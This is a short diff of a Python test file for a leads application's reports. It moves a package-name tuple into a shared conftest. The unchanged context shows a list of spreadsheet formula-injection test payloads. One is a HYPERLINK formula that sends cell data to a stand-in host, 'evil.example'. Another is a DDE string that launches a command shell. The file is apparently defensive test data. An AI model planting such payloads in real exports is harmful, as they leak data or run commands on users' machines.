@@ -19,6 +19,8 @@ from leads.models import Lead
 from tests import factories
 from tests.reports.conftest import at, make_lead
 
+from .conftest import PRODUCT_PACKAGES
+
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
     "+cmd|' /C calc'!A0",
@@ -27,17 +29,6 @@ PAYLOADS = [
     "\t=1",
     "\r=1",
 ]
-PRODUCT_PACKAGES = (
-    "accounts",
-    "leads",
-    "cadences",
-    "messaging",
-    "reactions",
-    "intake",
-    "today",
-    "reports",
-    "leadfollow",
-)
 
 
 def _rows(text: str) -> list[list[str]]:
